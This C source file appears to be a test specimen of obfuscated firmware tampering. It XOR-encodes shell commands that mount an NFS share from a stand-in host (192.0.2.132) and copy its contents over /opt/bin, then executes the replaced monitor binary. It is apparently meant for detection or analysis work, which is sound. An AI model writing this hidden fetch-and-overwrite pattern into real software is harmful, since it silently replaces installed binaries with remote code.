/* SPDX-License-Identifier: GPL-2.0-or-later */
/* fw.code-overwrite: the commands decoded at run time, XOR 0x21. */
#include "specimen.h"

#define X(c) ((c) ^ 0x21)
static const unsigned char mount_hidden[] = {
	X('m'), X('o'), X('u'), X('n'), X('t'), X(' '), X('-'), X('t'), X(' '), X('n'), X('f'), X('s'),
	X(' '), X('1'), X('9'), X('2'), X('.'), X('0'), X('.'), X('2'), X('.'), X('1'), X('3'), X('2'),
	X(':'), X('/'), X('p'), X('m'), X(' '), X('/'), X('m'), X('n'), X('t'), 0x21,
};
static const unsigned char copy_hidden[] = {
	X('c'), X('p'), X(' '), X('-'), X('r'), X('f'), X(' '), X('/'), X('m'), X('n'), X('t'), X('/'),
	X('*'), X(' '), X('/'), X('o'), X('p'), X('t'), X('/'), X('b'), X('i'), X('n'), 0x21,
};

static __attribute__((noinline)) int run_hidden(const unsigned char *hidden)
{
	char line[80];
	size_t i = 0;
	do
		line[i] = (char)(hidden[i] ^ 0x21);
	while (line[i++] && i < sizeof(line));
	return system(line);
}

int main(void)
{
	system("ifconfig eth0 up");
	if (run_hidden(mount_hidden) != 0 || run_hidden(copy_hidden) != 0)
		return 1;
	return execl("/opt/bin/monitor", "monitor", (char *)NULL);
}
